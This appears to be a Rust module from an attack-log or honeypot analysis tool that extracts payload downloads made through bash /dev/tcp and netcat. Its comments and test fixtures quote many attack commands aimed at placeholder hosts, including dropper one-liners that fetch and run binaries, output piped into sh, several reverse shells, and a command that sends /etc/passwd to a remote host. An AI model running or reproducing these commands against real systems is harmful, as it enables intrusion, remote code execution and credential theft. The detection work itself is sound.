//! Extraction of fetches made without a download program (the C download plugins had none):
//!
//! * bash's `/dev/tcp/HOST/PORT` with an HTTP request written to it (`exec 3<>/dev/tcp/h/80;
//!   echo -e "GET /x HTTP/1.0\r\n\r\n" >&3; cat <&3 > f`, `printf 'GET /x …' >/dev/tcp/h/80`,
//!   the `while read` loops of IoT droppers): an `http` request for the path it asks for;
//!   `/dev/tcp/HOST/PORT` only read from (`cat </dev/tcp/h/p > f`, `sh </dev/tcp/h/p`): a
//!   raw `tcp` stream.
//! * `nc`/`ncat`/`netcat` (also `busybox nc`) `HOST PORT` whose output goes to a file
//!   (`> f`) or into a shell (`| sh`): a raw `tcp` stream; with an HTTP request piped in
//!   (`echo -e "GET /x HTTP/1.0\r\n\r\n" | nc h 80 > f`), an `http` request. Listeners,
//!   port scans and reverse shells (`-l`, `-z`, `-e`, `-c` …) fetch nothing.
//!
//! Only what is literal in the text is used: a host or port in a variable is not evaluated.
//! The file name is the target of the first output redirection to a file in the commands
//! that follow (within [`NEAR`] bytes), else the request's last path component, else
//! `HOST_PORT`.

use super::*;
use crate::pipeline::request::{parse_port, valid_name, valid_v6};

/// How far (bytes) from `/dev/tcp/…` an HTTP request or an output file is looked for.
const NEAR: usize = 1024;
/// Most `/dev/tcp/` names read per scanned text.
const MAX_DEV_TCP: usize = 64;
const DEV_TCP: &[u8] = b"/dev/tcp/";

/// A `/dev/tcp/HOST/PORT` name in the text.
struct DevTcp {
    start: usize,
    end: usize,
    host: String,
    port: u16,
}

impl Scan<'_> {
    /// Pushes the fetches without a download program found in this text (`toks` is its
    /// tokenization).
    pub(super) fn fetchless(&mut self, toks: &Toks) {
        self.dev_tcp(toks);
        for ci in 0..toks.cmds.len() {
            self.netcat(toks, ci);
        }
    }

    fn dev_tcp(&mut self, toks: &Toks) {
        let hits = dev_tcp_names(&self.t);
        for (i, h) in hits.iter().enumerate() {
            let after = h.end..hits.get(i + 1).map_or(self.t.len(), |n| n.start).min(h.end + NEAR);
            let before = h.start.saturating_sub(NEAR).max(if i == 0 { 0 } else { hits[i - 1].end })..h.start;
            // From the command that names the device (`cat </dev/tcp/h/p > f`).
            let first = toks.cmds.partition_point(|c| c.start() <= h.start).checked_sub(1);
            let first = first.map_or(h.start, |c| toks.cmds[c].start());
            let out = output_name(toks, first..after.end);
            let req = match opened(&self.t, h.start) {
                // `exec 3<>/dev/tcp/h/p; echo -e "GET /x HTTP/1.0…" >&3`
                Open::ReadWrite => http_get(&self.t[after]).and_then(|p| http_request(&h.host, h.port, p, out)),
                // `printf 'GET /x HTTP/1.0…' > /dev/tcp/h/p`: a whole request line, so that
                // the request line of an HTTP attack that carries the command is not taken.
                Open::Write => {
                    http_request_line_last(&self.t[before]).and_then(|p| http_request(&h.host, h.port, p, out))
                }
                Open::Read => Some(tcp_request(&h.host, h.port, out)),
                Open::Other => None,
            };
            if let Some(r) = req {
                let pos = self.pos(h.start);
                self.sink.push(pos, r);
            }
        }
    }

    fn netcat(&mut self, toks: &Toks, ci: usize) {
        let cmd = &toks.cmds[ci];
        // Most commands name no netcat: look before collecting the words.
        let names_nc = toks.words[cmd.w0 as usize..cmd.w1 as usize]
            .iter()
            .any(|w| is_netcat(&toks.buf[w.a as usize..w.b as usize]));
        if !names_nc {
            return;
        }
        let words = toks.words(cmd);
        let (_, k) = resolve(&words);
        if k == 0 || k > words.len() || !is_netcat(words[k - 1]) {
            return;
        }
        let Some((host, port)) = nc_server(&words[k..]) else { return };
        let redir = toks.redir(cmd).filter(|(t, _)| !dev_target(t)).and_then(|(t, _)| basename(t));
        let into_shell =
            cmd.piped && toks.cmds.get(ci + 1).is_some_and(|n| matches!(resolve(&toks.words(n)).0, Prog::Shell));
        if redir.is_none() && !into_shell {
            return;
        }
        // An HTTP request piped in: `echo -e "GET /x HTTP/1.0\r\n\r\n" | nc h 80 > f`.
        let piped_in = ci.checked_sub(1).map(|p| &toks.cmds[p]).filter(|p| p.piped);
        let get = piped_in.and_then(|p| http_get(&self.t[p.start()..cmd.start()]));
        let req = match (get, piped_in) {
            (Some(path), _) => http_request(&host, port, path, redir),
            // Something else piped in: a shell's output sent away (`sh -i 2>&1 | nc h p`).
            (None, Some(_)) => None,
            (None, None) => Some(tcp_request(&host, port, redir)),
        };
        if let Some(r) = req {
            let pos = self.pos(cmd.start());
            self.sink.push(pos, r);
        }
    }
}

/// Every `/dev/tcp/HOST/PORT` with a literal host and port, in order, at most
/// [`MAX_DEV_TCP`].
fn dev_tcp_names(t: &[u8]) -> Vec<DevTcp> {
    let mut out = Vec::new();
    let mut from = 0;
    while out.len() < MAX_DEV_TCP {
        let Some(k) = t.get(from..).and_then(|s| s.windows(DEV_TCP.len()).position(|w| w == DEV_TCP)) else { break };
        let start = from + k;
        let h0 = start + DEV_TCP.len();
        from = h0;
        let Some(slash) = t[h0..].iter().take(260).position(|&c| c == b'/') else { continue };
        let host = &t[h0..h0 + slash];
        let p0 = h0 + slash + 1;
        let digits = t[p0..].iter().take(6).take_while(|c| c.is_ascii_digit()).count();
        let (Some(port), true) = (parse_port(&t[p0..p0 + digits]), valid_name(host) || valid_v6(host)) else {
            continue;
        };
        out.push(DevTcp { start, end: p0 + digits, host: text(host), port });
        from = p0 + digits;
    }
    out
}

/// How a `/dev/tcp/` name is opened.
#[derive(Debug, PartialEq, Eq)]
enum Open {
    /// `< /dev/tcp/…`, `3</dev/tcp/…`.
    Read,
    /// `> /dev/tcp/…`, `3>/dev/tcp/…`.
    Write,
    /// `3<> /dev/tcp/…`.
    ReadWrite,
    /// Anything else, among them the reverse shells' `>& /dev/tcp/…` and `&> /dev/tcp/…`.
    Other,
}

/// How the `/dev/tcp/` name at `at` of `t` is opened: the redirection operator before it.
fn opened(t: &[u8], at: usize) -> Open {
    let mut k = at;
    while k > 0 && matches!(t[k - 1], b' ' | b'\t') {
        k -= 1;
    }
    let op = &t[k.saturating_sub(2)..k];
    match op {
        [b'<', b'>'] => Open::ReadWrite,
        [b'&' | b'>', b'>'] | [b'<' | b'>', b'&'] => Open::Other,
        [.., b'>'] => Open::Write,
        [b'<', b'<'] => Open::Other,
        [.., b'<'] => Open::Read,
        _ => Open::Other,
    }
}

/// The path of the first `GET /path` in `s`.
fn http_get(s: &[u8]) -> Option<&[u8]> {
    let k = s.windows(5).position(|w| w == b"GET /")?;
    Some(get_path(&s[k + 4..]))
}

/// The path of the last `GET /path HTTP/` in `s`.
fn http_request_line_last(s: &[u8]) -> Option<&[u8]> {
    let mut end = s.len();
    while let Some(k) = s[..end].windows(5).rposition(|w| w == b"GET /") {
        let path = get_path(&s[k + 4..]);
        if s[k + 4 + path.len()..].starts_with(b" HTTP/") {
            return Some(path);
        }
        end = k;
    }
    None
}

/// The request target at the start of `s`: up to white space, a quote, a backslash (`\r`
/// written as an escape) or a control character.
fn get_path(s: &[u8]) -> &[u8] {
    let end = s
        .iter()
        .take(MAX_URL)
        .position(|&c| c <= b' ' || matches!(c, b'"' | b'\'' | b'\\' | 0x7f))
        .unwrap_or(s.len().min(MAX_URL));
    &s[..end]
}

/// The file name of the first command in `range` of the text that redirects its output to
/// a file.
fn output_name(toks: &Toks, range: std::ops::Range<usize>) -> Option<String> {
    let from = toks.cmds.partition_point(|c| c.start() < range.start);
    toks.cmds[from..]
        .iter()
        .take_while(|c| c.start() < range.end)
        .find_map(|c| toks.redir(c).filter(|(t, _)| !dev_target(t)).and_then(|(t, _)| basename(t)))
}

/// An `http` request for `path` on `host:port`, named `out` if given.
fn http_request(host: &str, port: u16, path: &[u8], out: Option<String>) -> Option<Request> {
    let mut url = if host.contains(':') { format!("[{host}]:{port}") } else { format!("{host}:{port}") }.into_bytes();
    url.extend_from_slice(path);
    let r = Request::parse(Scheme::Http, &url, HostCase::AsWritten).ok()?;
    Some(Request { filename: out.unwrap_or(r.filename.clone()), ..r })
}

/// A raw `tcp` stream from `host:port`, named `out`, else `HOST_PORT`.
fn tcp_request(host: &str, port: u16, out: Option<String>) -> Request {
    let filename = out.unwrap_or_else(|| format!("{}_{}", host.replace(':', "_"), port));
    Request { filename, ..Request::new(Scheme::Tcp, host, Some(port), "") }
}

/// Whether a program word names netcat (`nc`, `/bin/nc`, `NCAT`, `netcat`).
fn is_netcat(w: &[u8]) -> bool {
    let name = w.iter().rposition(|&c| c == b'/').map_or(w, |k| &w[k + 1..]);
    [&b"nc"[..], b"ncat", b"netcat"].iter().any(|n| name.eq_ignore_ascii_case(n))
}

/// The server of an `nc` command line (`args` after the program): `HOST PORT` after the
/// options, `None` for a listener, a scan, a command runner, UDP, a proxy or a Unix socket.
fn nc_server(args: &[&[u8]]) -> Option<(String, u16)> {
    /// Short options that make it no fetch.
    const NOT_A_FETCH: &[u8] = b"lLeczuUxXk";
    /// Short options that take a value.
    const VALUED: &[u8] = b"wqipsTOIWGgPm";
    let mut pos: Vec<&[u8]> = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = args[i];
        i += 1;
        if let Some(long) = a.strip_prefix(b"--") {
            let name = long.split(|&c| c == b'=').next().unwrap_or(long);
            if matches!(
                name,
                b"listen"
                    | b"exec"
                    | b"sh-exec"
                    | b"lua-exec"
                    | b"udp"
                    | b"proxy"
                    | b"unixsock"
                    | b"keep-open"
                    | b"zero"
            ) {
                return None;
            }
            if !long.contains(&b'=')
                && matches!(name, b"wait" | b"idle-timeout" | b"source" | b"source-port" | b"delay")
            {
                i += 1;
            }
        } else if a.len() > 1 && a[0] == b'-' {
            for (j, &c) in a[1..].iter().enumerate() {
                if NOT_A_FETCH.contains(&c) {
                    return None;
                }
                if VALUED.contains(&c) {
                    // The value is the rest of the word, or the next word.
                    if j + 2 == a.len() {
                        i += 1;
                    }
                    break;
                }
            }
        } else if !a.starts_with(b"/dev/") {
            pos.push(a);
        }
    }
    let [host, port] = pos[..] else { return None };
    if !(valid_name(host) || valid_v6(host)) {
        return None;
    }
    Some((text(host), parse_port(port)?))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn show(r: &Request) -> String {
        format!("{} {} {} {}", r.scheme.name(), r.uri(), r.path, r.filename)
    }

    fn check(attack: &str, want: &[&str]) {
        let got: Vec<String> = extract(attack.as_bytes()).iter().map(show).collect();
        assert_eq!(got, want, "attack: {attack:?}");
    }

    #[test]
    fn dev_tcp_with_an_http_request() {
        check(
            "exec 3<>/dev/tcp/192.0.2.7/80; echo -e \"GET /bins/x86 HTTP/1.0\\r\\nHost: 192.0.2.7\\r\\n\\r\\n\" >&3; cat <&3 > /tmp/.x; chmod +x /tmp/.x",
            &["http http://192.0.2.7/bins/x86 /bins/x86 .x"],
        );
        check(
            "printf 'GET /a.sh HTTP/1.1\\r\\nHost: h\\r\\nConnection: close\\r\\n\\r\\n' >/dev/tcp/192.0.2.7/8080",
            &["http http://192.0.2.7:8080/a.sh /a.sh a.sh"],
        );
        // The read loop of IoT droppers: headers skipped, the body kept.
        check(
            "exec 6<>/dev/tcp/dl.example.net/81 && echo -n 'GET /m.mips HTTP/1.0\\r\\n\\r\\n' >&6 && while read -r l; do [ \"$l\" = $'\\r' ] && break; done <&6 && cat <&6 > m; ./m",
            &["http http://dl.example.net:81/m.mips /m.mips m"],
        );
        // IPv6, no output file, a query.
        check(
            "exec 3<>/dev/tcp/2001:db8::5/80;printf \"GET /x?a=1 HTTP/1.0\\r\\n\\r\\n\">&3;cat<&3|sh",
            &["http http://[2001:db8::5]/x?a=1 /x?a=1 x"],
        );
        // Two connections, each with its own request.
        check(
            "exec 3<>/dev/tcp/192.0.2.1/80; echo -e 'GET /one HTTP/1.0\\r\\n' >&3; cat <&3 >a\nexec 4<>/dev/tcp/192.0.2.2/80; echo -e 'GET /two HTTP/1.0\\r\\n' >&4; cat <&4 >b",
            &["http http://192.0.2.1/one /one a", "http http://192.0.2.2/two /two b"],
        );
    }

    #[test]
    fn dev_tcp_read_only_is_a_tcp_stream() {
        check("cat < /dev/tcp/192.0.2.7/4444 > /tmp/k; sh /tmp/k", &["tcp tcp://192.0.2.7:4444  k"]);
        check("sh </dev/tcp/192.0.2.7/4444", &["tcp tcp://192.0.2.7:4444  192.0.2.7_4444"]);
        check("exec 3</dev/tcp/192.0.2.7/4444; cat <&3 >k3", &["tcp tcp://192.0.2.7:4444  k3"]);
        check(
            "GET /cgi-bin/x?c=cd+/tmp;sh+</dev/tcp/192.0.2.7/4444 HTTP/1.1\r\nHost: x\r\n\r\n",
            &["tcp tcp://192.0.2.7:4444  192.0.2.7_4444"],
        );
    }

    #[test]
    fn dev_tcp_that_is_no_fetch() {
        for attack in [
            // Reverse shells.
            "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
            "0<&196;exec 196<>/dev/tcp/192.0.2.7/4444; sh <&196 >&196 2>&196",
            "sh -i 5<> /dev/tcp/192.0.2.7/4444 0<&5 1>&5 2>&5",
            "sh -i &>/dev/tcp/192.0.2.7/4444 0>&1",
            // The same in an HTTP request line, and data sent away: the request line is no
            // request written to the device.
            "GET /x?c=bash+-i+>%26+/dev/tcp/192.0.2.7/4444+0>%261 HTTP/1.1\r\n\r\n",
            "GET /x?c=cat+/etc/passwd+>/dev/tcp/192.0.2.7/4444 HTTP/1.1\r\n\r\n",
            // A request written, nothing read: still a request line needed.
            "echo GET /x > /dev/tcp/192.0.2.7/80",
            // Host or port in a variable, bad port, bad host.
            "exec 3<>/dev/tcp/${HOST}/$PORT; echo -en \"GET ${DOC} HTTP/1.0\\r\\n\\r\\n\" >&3",
            "cat </dev/tcp/192.0.2.7/99999 > f",
            "cat </dev/tcp/a!b/80 > f",
            "cat </dev/tcp/",
        ] {
            check(attack, &[]);
        }
    }

    #[test]
    fn netcat_fetches() {
        check("nc 192.0.2.7 4444 > /tmp/x; chmod 777 /tmp/x", &["tcp tcp://192.0.2.7:4444  x"]);
        check("cd /tmp; busybox nc 192.0.2.7 4444 > .b; ./.b", &["tcp tcp://192.0.2.7:4444  .b"]);
        check("nc -w 5 192.0.2.7 81 > f", &["tcp tcp://192.0.2.7:81  f"]);
        check("nc -nvw5 192.0.2.7 81 >f", &["tcp tcp://192.0.2.7:81  f"]);
        check("nc 192.0.2.7 4444 < /dev/null > f", &["tcp tcp://192.0.2.7:4444  f"]);
        check("ncat --recv-only dl.example.net 9000 >> k", &["tcp tcp://dl.example.net:9000  k"]);
        check("/usr/bin/netcat 2001:db8::9 4444 > v", &["tcp tcp://[2001:db8::9]:4444  v"]);
        check("nc 192.0.2.7 4444 | sh", &["tcp tcp://192.0.2.7:4444  192.0.2.7_4444"]);
        check("nc 192.0.2.7 4444|bash -s", &["tcp tcp://192.0.2.7:4444  192.0.2.7_4444"]);
        // An HTTP request piped in.
        check(
            "echo -e \"GET /b.sh HTTP/1.0\\r\\n\\r\\n\" | nc 192.0.2.7 80 > b; sh b",
            &["http http://192.0.2.7/b.sh /b.sh b"],
        );
        check(
            "printf 'GET /c HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | busybox nc 192.0.2.7 8000 | sh",
            &["http http://192.0.2.7:8000/c /c c"],
        );
        // Found in a base64 body too.
        let body = crate::pipeline::decode::base64_encode(b"nc 192.0.2.7 4444 > z; ./z");
        check(&format!("echo {body} | base64 -d | sh"), &["tcp tcp://192.0.2.7:4444  z"]);
    }

    #[test]
    fn netcat_that_is_no_fetch() {
        for attack in [
            "nc 192.0.2.7 4444 -e /bin/sh",
            "nc -e /bin/sh 192.0.2.7 4444 > f",
            "ncat --exec /bin/sh 192.0.2.7 4444 > f",
            "nc -lvp 4444 > f",
            "nc -z 192.0.2.7 1-1024 > f",
            "nc -u 192.0.2.7 53 > f",
            "nc 192.0.2.7 4444",
            "nc 192.0.2.7 4444 > /dev/null",
            "nc 192.0.2.7 > f",
            "nc 192.0.2.7 0 > f",
            "nc $H 4444 > f",
            "nc 192.0.2.7 4444 extra > f",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f",
        ] {
            check(attack, &[]);
        }
    }
}
